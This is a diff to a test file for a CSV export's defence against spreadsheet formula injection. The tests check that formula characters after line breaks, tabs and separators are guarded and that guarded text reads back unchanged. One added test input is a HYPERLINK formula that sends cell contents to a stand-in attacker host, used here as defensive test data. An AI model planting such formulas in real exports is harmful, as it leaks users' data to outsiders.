@@ -48,11 +48,19 @@ describe('CSV export (spec §9)', () => {
     // Apostrophes already there get one more, so that reading back can tell ours from the user's.
     expect(csvCell("x;'=1")).toBe(`"x;''=1"`);
   });
+  it('defuses a formula after a line break or a tab, where a spreadsheet starts a row or a cell', () => {
+    expect(csvCell('Summary\n=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(`"Summary\n'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
+    expect(csvCell('x\t=1+1')).toBe(`"x\t'=1+1"`);
+    expect(csvCell('a\r\n+1\r@b')).toBe(`"a\r\n'+1\r'@b"`);
+    // Tab and CR are both separators and formula characters: each one that starts a cell is guarded.
+    expect(csvCell('\t\t=1')).toBe(`"'\t'\t'=1"`);
+    expect(unguardFormulas(guardFormulas("\n'\t=x"))).toBe("\n'\t=x");
+  });
   it('reads back exactly what it guarded, whatever the text', () => {
-    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', ';', ',', "'", 'a', ' ') });
+    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ';', ',', "'", 'a', ' ') });
     fc.assert(fc.property(text, (value) => unguardFormulas(guardFormulas(value)) === value));
     // Nothing a spreadsheet would run is left: no formula character at a cell start without its apostrophe.
-    fc.assert(fc.property(text, (value) => !/(^|[;,])[=+\-@\t\r]/.test(guardFormulas(value))));
+    fc.assert(fc.property(text, (value) => !/(?<=^|[;,\n\r\t])[=+\-@\t\r]/.test(guardFormulas(value))));
   });
   it('names the file prompts-export-yyyy-mm-dd.csv', () => {
     expect(csvFileName(new Date('2026-11-22T10:00:00Z'))).toBe('prompts-export-2026-11-22.csv');
